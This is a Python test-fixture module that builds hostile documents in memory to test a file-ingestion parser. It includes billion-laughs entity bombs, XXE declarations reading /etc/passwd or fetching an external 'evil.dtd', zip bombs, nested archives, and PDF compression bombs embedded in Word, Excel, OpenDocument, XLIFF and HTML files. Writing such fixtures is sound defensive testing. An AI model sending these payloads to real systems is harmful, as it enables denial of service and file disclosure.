"""Hostile and malformed payloads, built in memory: XML bombs, XXE, zip bombs, lying files.

Each builder is cached: the bombs cost a little CPU to compress.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import docx
import openpyxl
import pptx
import pypdf

BILLION_LAUGHS_DTD = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">'.encode()
        for n in range(1, 10)
    )
    + b"]>"
)
XXE_FILE_DTD = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_PARAMETER_DTD = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>'
EXTERNAL_DTD = b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">'
DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>\n'
SCENARI_OPEN = b'<sc:item xmlns:sc="http://www.utc.fr/ics/scenari/v3/core"><sc:para>'
SCENARI_CLOSE = b"</sc:para></sc:item>"
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201ff0c2c0d1b0000000049454e44ae426082"
)
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
WORD_MAIN = "word/document.xml"
CONTENT_TYPES = "[Content_Types].xml"
WORD_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def scenari(dtd: bytes, text: bytes) -> bytes:
    return DECLARATION + dtd + SCENARI_OPEN + text + SCENARI_CLOSE


def deeply_nested_xml(depth: int = 50_000) -> bytes:
    return b"<a>" * depth + b"texte" + b"</a>" * depth


def word_body(dtd: bytes, text: bytes) -> bytes:
    return (
        DECLARATION
        + dtd
        + b"<w:document "
        + WORD_NS
        + b"><w:body><w:p><w:r><w:t>"
        + text
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )


@cache
def word_document(text: str = "Bonjour tout le monde.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def word_with(
    replaced: dict[str, bytes] | None = None, added: dict[str, bytes] | None = None
) -> bytes:
    """A real .docx with some parts replaced or added."""
    source = zipfile.ZipFile(io.BytesIO(word_document()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(
                info.filename, (replaced or {}).get(info.filename) or source.read(info)
            )
        for name, data in (added or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def word_with_embedded(name: str, data: bytes) -> bytes:
    """A real .docx carrying an embedded package (as Word stores an embedded object)."""
    source = zipfile.ZipFile(io.BytesIO(word_document()))
    relationship = (
        f'<Relationship Id="rIdEmbedded" Target="{name.removeprefix("word/")}" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"/>'
    ).encode()
    override = f'<Override PartName="/{name}" ContentType="application/zip"/>'.encode()
    rels = source.read("word/_rels/document.xml.rels")
    types = source.read(CONTENT_TYPES)
    return word_with(
        {
            "word/_rels/document.xml.rels": rels.replace(
                b"</Relationships>", relationship + b"</Relationships>"
            ),
            CONTENT_TYPES: types.replace(b"</Types>", override + b"</Types>"),
        },
        {name: data},
    )


def rels_with_dtd() -> bytes:
    original = zipfile.ZipFile(io.BytesIO(word_document())).read("word/_rels/document.xml.rels")
    return original.replace(b"?>", b"?>" + XXE_FILE_DTD, 1)


def content_types_with_dtd() -> bytes:
    original = zipfile.ZipFile(io.BytesIO(word_document())).read(CONTENT_TYPES)
    return original.replace(b"?>", b"?>" + BILLION_LAUGHS_DTD, 1)


@cache
def zeros_zip(megabytes: int, name: str = "zeros.bin") -> bytes:
    """One entry of zeros: about 1,000 times smaller compressed."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(name, "w", force_zip64=True) as entry,
    ):
        block = bytes(1 << 20)
        for _ in range(megabytes):
            entry.write(block)
    return out.getvalue()


@cache
def zip_bomb_high_ratio() -> bytes:
    """A Word package whose document part inflates to 150 MB of whitespace."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        source = zipfile.ZipFile(io.BytesIO(word_document()))
        for info in source.infolist():
            if info.filename != WORD_MAIN:
                archive.writestr(info.filename, source.read(info))
        with archive.open(WORD_MAIN, "w", force_zip64=True) as entry:
            entry.write(word_body(b"", b"x")[: -len(b"</w:document>")])
            block = b" " * (1 << 20)
            for _ in range(150):
                entry.write(block)
            entry.write(b"</w:document>")
    return out.getvalue()


@cache
def zip_many_entries(count: int = 5000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for number in range(count):
            archive.writestr(f"p/{number}.xml", b"<a/>")
    return out.getvalue()


@cache
def zip_of_zips(width: int = 10) -> bytes:
    """42.zip-style: archives of archives of zeros (10 x 10 MB here), and no Word structure."""
    inner = zeros_zip(10)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(width):
            archive.writestr(f"layer{number}.zip", inner)
    return out.getvalue()


def _pdf_stream(content: bytes, dictionary: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return (
        b"<< %s /Length %d /Filter /FlateDecode >>\nstream\n" % (dictionary, len(packed))
        + packed
        + b"\nendstream"
    )


def pdf_document(pages: list[bytes], form: bytes = b"") -> bytes:
    """A PDF whose pages draw the given content streams (Flate-compressed) in Helvetica, and
    may draw `form` (a form XObject, /Fm1), written by hand so that a test controls every
    stream, as an attacker would."""
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"",  # the page tree, once the pages are numbered
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        _pdf_stream(form, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"),
    ]
    kids = []
    for content in pages:
        objects.append(_pdf_stream(content))
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources"
            b" << /Font << /F1 3 0 R >> /XObject << /Fm1 4 0 R >> >> /Contents %d 0 R >>"
            % len(objects)
        )
        kids.append(b"%d 0 R" % len(objects))
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_text_page(text: str) -> bytes:
    """A content stream writing one line of text."""
    return b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text.encode("latin-1")


@cache
def pdf_bomb(pages: int = 8, megabytes: int = 10) -> bytes:
    """Pages of whitespace content, each about 1,000 times smaller compressed."""
    return pdf_document([pdf_text_page("Bonjour") + b" " * (megabytes << 20)] * pages)


@cache
def pdf_form_bomb(draws: int = 40, megabytes: int = 10) -> bytes:
    """One page drawing the same whitespace form again and again: small once decoded, huge
    to parse."""
    return pdf_document(
        [pdf_text_page("Bonjour") + b" /Fm1 Do" * draws], form=b" " * (megabytes << 20)
    )


@cache
def pdf_encrypted() -> bytes:
    reader = pypdf.PdfReader(io.BytesIO(pdf_document([pdf_text_page("Bonjour")])))
    writer = pypdf.PdfWriter(clone_from=reader)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# -- office packages: .xlsx, .pptx, .odt, .odp ------------------------------------------------

ODT = "application/vnd.oasis.opendocument.text"
ODP = "application/vnd.oasis.opendocument.presentation"
ODF_CONTENT = "content.xml"
XLSX_STRINGS = "xl/sharedStrings.xml"
PPTX_SLIDE = "ppt/slides/slide1.xml"


@cache
def spreadsheet() -> bytes:
    """A real .xlsx (its text as a shared string, as Excel writes it)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "Bonjour tout le monde."
    out = io.BytesIO()
    book.save(out)
    # openpyxl writes inline strings: move the text to a shared-strings part.
    return package_with(
        out.getvalue(),
        {
            "xl/worksheets/sheet1.xml": lambda xml: xml.replace(
                b't="inlineStr"><is><t>Bonjour tout le monde.</t></is>', b't="s"><v>0</v>'
            ),
            "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdStrings" Target="sharedStrings.xml" Type="http://schemas'
                b'.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
                b"</Relationships>",
            ),
            "[Content_Types].xml": lambda xml: xml.replace(
                b"</Types>",
                b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd'
                b'.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
            ),
        },
        {XLSX_STRINGS: shared_strings(b"")},
    )


def shared_strings(dtd: bytes, text: bytes = b"Bonjour tout le monde.") -> bytes:
    return (
        DECLARATION
        + dtd
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"'
        + b' uniqueCount="1"><si><t>'
        + text
        + b"</t></si></sst>"
    )


@cache
def presentation() -> bytes:
    deck = pptx.Presentation()
    deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text = "Bonjour tout le monde."
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def odf_content(dtd: bytes, text: bytes = b"Bonjour tout le monde.") -> bytes:
    return (
        DECLARATION
        + dtd
        + b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office'
        + b':1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        + b' office:version="1.3"><office:body><office:text><text:p>'
        + text
        + b"</text:p></office:text></office:body></office:document-content>"
    )


@cache
def open_document(media_type: str = ODT) -> bytes:
    """A minimal OpenDocument package: `mimetype` first and stored, content, manifest."""
    manifest = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        b' manifest:version="1.3"><manifest:file-entry manifest:full-path="/"'
        b' manifest:media-type="' + media_type.encode() + b'"/></manifest:manifest>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), media_type)
        archive.writestr(ODF_CONTENT, odf_content(b""))
        archive.writestr("META-INF/manifest.xml", DECLARATION + manifest)
    return out.getvalue()


def package_with(
    base: bytes,
    replaced: dict[str, bytes | Callable[[bytes], bytes]],
    added: dict[str, bytes] | None = None,
) -> bytes:
    """A copy of the package `base` with some parts replaced (by bytes, or by a function of the
    part) or added, each stored as it was (`mimetype` stays first and stored)."""
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            data = source.read(info)
            change = replaced.get(info.filename)
            data = change(data) if callable(change) else change or data
            archive.writestr(info, data, compress_type=info.compress_type)
        for name, data in (added or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


XLIFF_OPEN = (
    b'<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file'
    b' source-language="fr" datatype="plaintext" original="a"><body><trans-unit id="1"><source>'
)
XLIFF_CLOSE = b"</source></trans-unit></body></file></xliff>"


def xliff(dtd: bytes, text: bytes, declaration: bytes = DECLARATION) -> bytes:
    return declaration + dtd + XLIFF_OPEN + text + XLIFF_CLOSE


def html_page(dtd: bytes, text: bytes) -> bytes:
    return dtd + b"<html><head><title>Titre</title></head><body><p>" + text + b"</p></body></html>"


def srt_cues(count: int) -> bytes:
    return b"".join(b"%d\n00:00:01,000 --> 00:00:02,000\nBonjour\n\n" % n for n in range(count))
